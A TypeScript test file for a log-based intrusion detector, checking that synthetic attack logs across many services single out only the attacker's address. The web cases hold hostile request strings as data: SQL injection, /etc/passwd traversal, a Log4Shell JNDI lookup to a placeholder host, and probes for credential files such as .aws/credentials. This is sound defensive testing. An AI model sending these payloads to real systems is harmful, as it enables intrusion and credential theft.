/** Attacks on many kinds of service, each among innocent neighbours who must not be accused. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { DAWN, isoSecond, MINUTE, offendersIn, request, SECOND, times, type Line } from '../../test/fixtures/scene.ts'

const EVIL = '203.0.113.9'
const GOOD = '198.51.100.4'
const OTHER = '198.51.100.5'

/** A line with the time in front. */
const say = (at: number, text: string): Line => [at, `${isoSecond(at)}Z ${text}`]
/** Several, so far apart. */
const series = (count: number, every: number, make: (at: number, i: number) => Line, from = DAWN): Line[] =>
  times(count, (i) => make(from + i * every, i))
const visits = (paths: readonly string[], status: number, every = SECOND, agent?: string): Line[] =>
  paths.map((path, i) => request(DAWN + i * every, EVIL, `GET ${path}`, status, agent))

interface Attack {
  readonly lines: readonly Line[]
  /** EVIL, unless others are told. */
  readonly attackers?: readonly string[]
}

const readers: Line[] = [
  ...series(30, 7 * SECOND, (at, i) => request(at, GOOD, `GET /articles/${i % 9}`, 200)),
  ...series(30, 9 * SECOND, (at, i) => request(at, OTHER, `GET /assets/app-${i % 3}.js`, 200)),
  request(DAWN + 5 * SECOND, GOOD, 'GET /favicon.ico', 404),
  request(DAWN + 9 * SECOND, OTHER, 'GET /articles/gone', 404),
  request(DAWN + 19 * SECOND, OTHER, 'GET /articles/gone-too', 404),
]

const attacks: Record<string, Attack> = {
  'a shell: six tries in twelve seconds': {
    lines: [
      ...series(6, 2 * SECOND, (at, i) =>
        say(at, `gate sshd[${77 + i}]: Failed password for root from ${EVIL} port ${4000 + i} ssh2`),
      ),
      say(DAWN + SECOND, `gate sshd[12]: Failed password for amy from ${GOOD} port 4900 ssh2`),
      say(DAWN + 9 * SECOND, `gate sshd[12]: Accepted password for amy from ${GOOD} port 4900 ssh2`),
    ],
  },
  'a shell: names that do not exist, one try each': {
    lines: [
      ...series(7, 20 * SECOND, (at, i) =>
        say(
          at,
          `gate sshd[${77 + i}]: Invalid user ${'oracle git test pi dev nagios www'.split(' ')[i]} from ${EVIL} port ${4000 + i}`,
        ),
      ),
      say(DAWN + SECOND, `gate sshd[12]: Invalid user ammy from ${GOOD} port 4900`),
    ],
  },
  'a shell: patiently, two an hour': {
    lines: series(12, 25 * MINUTE, (at, i) =>
      say(at, `gate sshd[${77 + i}]: Failed password for root from ${EVIL} port ${4000 + i} ssh2`),
    ),
  },
  'a mailbox: several accounts by imap': {
    lines: [
      ...series(8, 4 * SECOND, (at, i) =>
        say(
          at,
          `mail dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<u${i}@example.org>, method=PLAIN, rip=${EVIL}, lip=192.0.2.1, session=<s${i}>`,
        ),
      ),
      ...series(40, 5 * SECOND, (at, i) =>
        say(
          at,
          `mail dovecot: imap-login: Login: user=<p${i % 7}@example.org>, method=PLAIN, rip=${GOOD}, lip=192.0.2.1, mpid=${i}, TLS, session=<t${i}>`,
        ),
      ),
      say(
        DAWN,
        `mail dovecot: imap-login: Disconnected (no auth attempts in 2 secs): user=<>, rip=${OTHER}, lip=192.0.2.1`,
      ),
    ],
  },
  'mail: relaying refused': {
    lines: [
      ...series(7, 3 * SECOND, (at, i) =>
        say(
          at,
          `mx postfix/smtpd[${77 + i}]: NOQUEUE: reject: RCPT from unknown[${EVIL}]: 554 5.7.1 <a${i}@example.net>: Relay access denied; from=<x@example.com> to=<a${i}@example.net> proto=ESMTP helo=<pc>`,
        ),
      ),
      ...series(20, 5 * SECOND, (at, i) =>
        say(at, `mx postfix/smtpd[${177 + i}]: connect from mail.example.com[${GOOD}]`),
      ),
      say(
        DAWN,
        `mx postfix/smtpd[9]: NOQUEUE: reject: RCPT from mail.example.com[${GOOD}]: 550 5.1.1 <old@example.org>: Recipient address rejected: User unknown; from=<x@example.com> to=<old@example.org> proto=ESMTP helo=<m>`,
      ),
    ],
  },
  'mail: sign-in by smtp': {
    lines: series(9, 5 * SECOND, (at, i) =>
      say(at, `mx postfix/smtpd[${77 + i}]: warning: unknown[${EVIL}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6`),
    ),
  },
  'files: one account by ftp': {
    lines: [
      ...series(8, 3 * SECOND, (at) =>
        say(at, `ftp pure-ftpd: (?@${EVIL}) [WARNING] Authentication failed for user [admin]`),
      ),
      say(DAWN, `ftp pure-ftpd: (?@${GOOD}) [INFO] New connection from ${GOOD}`),
      say(DAWN + SECOND, `ftp pure-ftpd: (?@${GOOD}) [INFO] amy is now logged in`),
    ],
  },
  'a database: the administrator': {
    lines: [
      ...series(8, 2 * SECOND, (at, i) =>
        say(at, `${40 + i} [Note] Access denied for user 'root'@'${EVIL}' (using password: YES)`),
      ),
      ...series(9, 5 * SECOND, (at, i) =>
        say(
          at,
          `${90 + i} [Note] Aborted connection ${90 + i} to db: 'shop' user: 'app' host: '${GOOD}' (Got timeout reading communication packets)`,
        ),
      ),
    ],
  },
  'a database: told after the address': {
    lines: series(7, 3 * SECOND, (at, i) =>
      say(
        at,
        `[${77 + i}] postgres@postgres ${EVIL}(${4000 + i}) FATAL:  password authentication failed for user "postgres"`,
      ),
    ),
  },
  'a directory: codes alone': {
    lines: [
      ...series(7, 3 * SECOND, (at, i) =>
        say(at, `ldap slapd[8]: conn=${20 + i} fd=18 ACCEPT from IP=${EVIL}:${4000 + i} (IP=0.0.0.0:636)`),
      ),
      ...series(7, 3 * SECOND, (at, i) =>
        say(at + 100, `ldap slapd[8]: conn=${20 + i} op=0 RESULT tag=97 err=49 text=`),
      ),
      ...series(9, 4 * SECOND, (at, i) =>
        say(at, `ldap slapd[8]: conn=${70 + i} fd=19 ACCEPT from IP=${GOOD}:${5000 + i} (IP=0.0.0.0:636)`),
      ),
      ...series(9, 4 * SECOND, (at, i) =>
        say(at + 100, `ldap slapd[8]: conn=${70 + i} op=0 RESULT tag=97 err=0 text=`),
      ),
    ],
  },
  'a desktop': {
    lines: [
      ...series(8, 2 * SECOND, (at, i) => [
        at,
        JSON.stringify({
          '@timestamp': `${isoSecond(at)}Z`,
          EventID: 4625,
          Message: 'An account failed to log on.',
          TargetUserName: 'administrator',
          IpAddress: EVIL,
          IpPort: 4000 + i,
          LogonType: 10,
        }),
      ]),
      [
        DAWN,
        JSON.stringify({
          '@timestamp': `${isoSecond(DAWN)}Z`,
          EventID: 4624,
          Message: 'An account was successfully logged on.',
          TargetUserName: 'amy',
          IpAddress: GOOD,
          LogonType: 10,
        }),
      ],
    ],
  },
  'a telephone exchange: registrations': {
    lines: [
      ...series(9, SECOND, (at, i) =>
        say(
          at,
          `sip1 kamailio[8]: NOTICE: auth failed for ${1000 + i}@sip.example.org from ${EVIL}:5080 - wrong password`,
        ),
      ),
      ...series(30, 2 * SECOND, (at, i) =>
        say(at, `sip1 kamailio[8]: INFO: registration of ${2000 + (i % 9)}@sip.example.org from ${GOOD}:5060 ok`),
      ),
    ],
  },
  'a page with a lock: 401 again and again': {
    lines: [
      ...readers,
      ...series(9, 2 * SECOND, (at) => request(at, EVIL, 'GET /private/', 401, 'Mozilla/5.0', 'admin')),
      request(DAWN, GOOD, 'GET /private/', 401),
      request(DAWN + SECOND, GOOD, 'GET /private/', 200, 'Mozilla/5.0', 'amy'),
    ],
  },
  'a page with a lock: nobody named': {
    lines: [...readers, ...series(24, SECOND, (at) => request(at, EVIL, 'GET /manager/status', 401))],
  },
  'a sign-in form that answers 200': {
    lines: [
      ...readers,
      ...series(10, 2 * SECOND, (at) => request(at, EVIL, 'POST /wp-login.php', 200)),
      request(DAWN, GOOD, 'POST /wp-login.php', 302),
    ],
  },
  'a sign-in form that answers 403': {
    lines: [
      ...readers,
      ...series(8, 3 * SECOND, (at) => request(at, EVIL, 'POST /api/login', 403)),
      request(DAWN, GOOD, 'POST /api/login', 200),
    ],
  },
  'a site: everything that is not static, at once': {
    lines: [...readers, ...series(70, 100, (at, i) => request(at, EVIL, `GET /archive/${2_000 + i}/page`, 200))],
  },
  'a site: pages that do not exist': {
    lines: [
      ...readers,
      ...visits(
        times(15, (i) => `/section-${i}/index`),
        404,
        400,
      ),
    ],
  },
  'a site: files nobody links to': {
    lines: [
      ...readers,
      ...visits(['/.env', '/.git/HEAD', '/id_rsa.key', '/dump.sql', '/wp-config.php.bak', '/.aws/credentials'], 404),
    ],
  },
  'a site: out of the folder': {
    lines: [
      ...readers,
      ...visits(
        times(5, (i) => `/static/${'../'.repeat(i + 2)}etc/passwd`),
        400,
      ),
    ],
  },
  'a site: questions to the database behind it': {
    lines: [
      ...readers,
      ...visits(
        times(6, (i) => `/items?id=${i}%27%20OR%201=1--`),
        200,
      ),
    ],
  },
  'a site: the panels of others': {
    lines: [
      ...readers,
      ...visits(['/phpmyadmin/', '/admin/', '/manager/html', '/solr/', '/actuator/env', '/console/'], 404),
    ],
  },
  'a site: holes known by name': {
    lines: [
      ...readers,
      ...visits(
        [
          '/cgi-bin/.%2e/.%2e/bin/sh',
          '/vendor/phpunit/eval-stdin.php',
          '/?x=${jndi:ldap://192.0.2.66/a}',
          '/boaform/admin/formLogin',
        ],
        404,
      ),
    ],
  },
  'a site: a tool that says what it is': {
    lines: [
      ...readers,
      ...visits(
        times(5, (i) => `/x${i}`),
        404,
        SECOND,
        'Mozilla/5.0 (compatible; sqlmap/1.8)',
      ),
    ],
  },
  'a site: taken for a proxy': {
    lines: [...readers, ...series(5, SECOND, (at, i) => request(at, EVIL, `CONNECT mail${i}.example.net:25`, 405))],
  },
  'a site: limits hit': {
    lines: series(8, 2 * SECOND, (at, i) => [
      at,
      `${isoSecond(at).replace('T', ' ').replaceAll('-', '/')} [error] 7#7: *${i} limiting requests, excess: 20.${i} by zone "one", client: ${EVIL}, server: example.org, request: "GET / HTTP/1.1"`,
    ]),
  },
  'doors: many ports by key': {
    lines: [
      ...series(14, SECOND, (at, i) =>
        say(
          at,
          `gw kernel: [UFW BLOCK] IN=eth0 OUT= SRC=${EVIL} DST=192.0.2.1 LEN=40 PROTO=TCP SPT=4444 DPT=${20 + i * 7}`,
        ),
      ),
      ...series(40, SECOND, (at) =>
        say(at, `gw kernel: [UFW BLOCK] IN=eth0 OUT= SRC=${GOOD} DST=192.0.2.1 LEN=40 PROTO=UDP SPT=5353 DPT=5353`),
      ),
    ],
  },
  'doors: many ports by place': {
    lines: [
      ...series(14, SECOND, (at, i) =>
        say(
          at,
          `pf filterlog[8]: 5,,,1000000103,igb0,match,block,in,4,0x0,,244,${i},0,none,6,tcp,40,${EVIL},192.0.2.1,40112,${20 + i * 7},0,S,12345,,1024,,`,
        ),
      ),
      ...series(30, SECOND, (at, i) =>
        say(
          at,
          `pf filterlog[8]: 9,,,1000000104,igb0,match,pass,in,4,0x0,,64,${i},0,DF,6,tcp,60,${GOOD},192.0.2.1,40116,${20 + i},0,S,12346,,64240,,`,
        ),
      ),
    ],
  },
  'doors: many ports in sentences': {
    lines: [
      ...series(14, SECOND, (at, i) =>
        say(
          at,
          `asa1 : %ASA-4-106023: Deny tcp src outside:${EVIL}/40112 dst inside:192.0.2.1/${20 + i * 7} by access-group "outside_in"`,
        ),
      ),
      ...series(30, SECOND, (at) =>
        say(
          at,
          `asa1 : %ASA-4-106023: Deny udp src outside:${GOOD}/40112 dst inside:192.0.2.1/161 by access-group "outside_in"`,
        ),
      ),
    ],
  },
  'doors: many machines': {
    lines: series(12, SECOND, (at, i) =>
      say(at, `r3 %SEC-6-IPACCESSLOGP: list 101 denied tcp ${EVIL}(40112) -> 192.0.2.${i + 1}(23), 1 packet`),
    ),
  },
  'a tunnel': {
    lines: [
      ...series(7, 5 * SECOND, (at, i) =>
        say(
          at,
          `gw openvpn[7]: ${EVIL}:${4000 + i} TLS Auth Error: Auth Username/Password verification failed for peer`,
        ),
      ),
      ...series(9, 5 * SECOND, (at, i) =>
        say(
          at,
          `gw openvpn[7]: ${GOOD}:${5000 + i} TLS: Initial packet from [AF_INET]${GOOD}:${5000 + i}, sid=ab12cd34 ef56ab78`,
        ),
      ),
    ],
  },
  'a switch': {
    lines: series(6, 4 * SECOND, (at) =>
      say(
        at,
        `sw1 %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: ${EVIL}] [localport: 22] [Reason: Login Authentication Failed]`,
      ),
    ),
  },
  'a cloud console': {
    lines: [
      ...series(6, 5 * SECOND, (at) => [
        at,
        JSON.stringify({
          eventTime: `${isoSecond(at)}Z`,
          eventSource: 'signin.example.com',
          eventName: 'ConsoleLogin',
          sourceIPAddress: EVIL,
          userIdentity: { type: 'User', userName: 'amy' },
          responseElements: { ConsoleLogin: 'Failure' },
        }),
      ]),
      [
        DAWN,
        JSON.stringify({
          eventTime: `${isoSecond(DAWN)}Z`,
          eventName: 'DescribeInstances',
          sourceIPAddress: GOOD,
          userIdentity: { userName: 'bob' },
          errorCode: 'Client.Throttling',
        }),
      ],
    ],
  },
  'single sign-on: one account from many addresses': {
    lines: times(10, (i) =>
      say(
        DAWN + i * 2 * MINUTE,
        `sso: type="LOGIN_ERROR", ipAddress="203.0.113.${20 + i}", error="invalid_user_credentials", username="ceo"`,
      ),
    ),
    attackers: times(10, (i) => `203.0.113.${20 + i}`),
  },
  "a page of one's own: tokens guessed": {
    lines: series(8, 2 * SECOND, (at) => [
      at,
      JSON.stringify({
        time: `${isoSecond(at)}Z`,
        level: 'warn',
        event: 'otp_verification',
        result: 'failure',
        src_ip: EVIL,
        account: 'amy',
      }),
    ]),
  },
  'a name server: questions refused': {
    lines: series(8, SECOND, (at, i) =>
      say(at, `ns named[7]: client @0x7f ${EVIL}#${4000 + i} (example.com): query (cache) 'example.com/ANY/IN' denied`),
    ),
  },
  'a proxy: accounts tried': {
    lines: series(7, 2 * SECOND, (at) => [
      at,
      `${at / 1000}.000 12 ${EVIL} TCP_DENIED/407 3891 CONNECT example.net:443 amy HIER_NONE/- text/html`,
    ]),
  },
}

for (const [attack, { lines, attackers = [EVIL] }] of Object.entries(attacks)) {
  test(`${attack}: who did it is named, and nobody else`, () =>
    assert.deepEqual(offendersIn(lines), [...attackers].sort()))
}

const innocent: Record<string, readonly Line[]> = {
  'one odd request': [...readers, ...visits(['/items?id=1%27%20OR%201=1--'], 200)],
  'visitors of a page that forgot to fill in its links': times(12, (v) =>
    times(6, (i) =>
      request(DAWN + v * 3 * SECOND + i * 100, `198.51.100.${20 + v}`, `GET /img/\${picture${i}.url}`, 404),
    ),
  ).flat(),
  'a reader of articles about tools, some of them gone': [
    ...readers,
    ...series(6, 20 * SECOND, (at, i) => request(at, GOOD, `GET /blog/nikto-and-sqlmap-${i}`, 404)),
  ],
  'somebody who looks for the administration once': [...readers, ...visits(['/admin/', '/administrator/'], 404)],
  'a neighbour whose packets are dropped at one door': series(60, 2 * SECOND, (at) =>
    say(at, `gw : denied udp ${GOOD}(40112) -> 192.0.2.1(161), 1 packet`),
  ),
  'a proxy whose pages are not there': series(30, 3 * SECOND, (at, i) => [
    at,
    `${at / 1000}.000 12 ${GOOD} TCP_MISS/503 3891 GET http://down.example.net/${i} amy HIER_NONE/- text/html`,
  ]),
  'a directory that is asked for what it does not have': series(30, SECOND, (at, i) =>
    say(at, `ldap slapd[8]: conn=${70 + i} op=1 SEARCH RESULT tag=101 err=32 nentries=0 text= from IP=${GOOD}`),
  ),
  'a mail server whose letters come back': series(20, 2 * SECOND, (at, i) =>
    say(
      at,
      `mx postfix/smtp[8]: 4X${i}: to=<b${i}@example.com>, relay=mx.example.com[${GOOD}]:25, status=bounced (host mx.example.com[${GOOD}] said: 550 5.1.1 User unknown)`,
    ),
  ),
}

for (const [day, lines] of Object.entries(innocent)) {
  test(`${day}: nobody is accused`, () => assert.deepEqual(offendersIn(lines), []))
}

test('files that nobody links to, looked for slowly, are a scan', () => {
  const paths = [
    '/.env',
    '/.git/HEAD',
    '/id_rsa.key',
    '/dump.sql',
    '/wp-config.php.bak',
    '/.aws/credentials',
    '/old.zip',
  ]
  assert.deepEqual(offendersIn([...readers, ...visits(paths, 404, 4 * MINUTE)]), [EVIL])
})
